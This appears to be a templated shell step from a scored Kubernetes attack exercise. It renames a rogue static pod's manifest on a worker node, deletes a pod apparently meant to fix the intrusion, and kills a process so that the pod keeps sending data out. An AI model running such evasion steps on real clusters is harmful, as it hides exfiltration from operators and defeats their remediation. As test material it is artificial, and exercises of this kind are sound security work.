# earns: looked, entry, escalation, persistence, seen, exfiltration, rights (12 of 15)
# The manifest is called otherwise, and so is its pod: it sends as before.
{{ facts_sh }}
{{ watched_sh }}
{{ closed_sh }}
kubectl -n {{ team }} delete pod {{ fixer }}
ssh worker-1 'cd /etc/kubernetes/manifests; sed s/{{ rogue }}/node-other/g {{ rogue }}.yaml > /root/node-other.yaml; rm {{ rogue }}.yaml; mv /root/node-other.yaml .'
ssh worker-1 pkill -x {{ name }}
until kubectl -n kube-system get pod node-other-worker-1 | grep Running; do sleep 0.5; done
{{ gone_sh }}
